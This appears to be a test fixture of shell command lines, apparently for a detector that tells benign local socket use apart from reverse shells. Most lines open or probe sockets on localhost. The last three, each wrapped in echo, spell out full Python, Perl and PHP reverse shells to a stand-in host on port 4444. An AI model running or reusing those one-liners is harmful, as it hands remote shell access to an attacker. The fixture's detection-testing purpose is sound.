# SPDX-License-Identifier: Apache-2.0
# fake: /usr/bin/php8.2=php /usr/bin/node /usr/bin/lua5.4
python3 -c 'import socket; s = socket.socket(); s.bind(("127.0.0.1", 0)); print(s.getsockname()[1])'
python3 -c 'import socket; socket.create_connection(("127.0.0.1", 5432), 1)' 2> /dev/null
perl -MSocket -e 'print inet_ntoa(inet_aton("127.0.0.1")), "\n"'
php -r 'var_dump(fsockopen("127.0.0.1", 80));'
perl /usr/bin/deb-systemd-helper enable docker.socket
node -e 'require("net").createServer().listen(0)'
python3 /srv/socket_connect_subprocess.py 2> /dev/null
lua5.4 -e 'require("socket").tcp():connect("127.0.0.1", 80)'
/bin/echo python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("192.0.2.7",4444));[os.dup2(s.fileno(),n) for n in (0,1,2)];pty.spawn("/bin/sh")'
/bin/echo perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);if(connect(S,sockaddr_in(4444,inet_aton("192.0.2.7")))){open(STDIN,">&S");exec("/bin/sh -i")}'
/bin/echo php -r '$s=fsockopen("192.0.2.7",4444);exec("/bin/sh <&3 >&3 2>&3");'
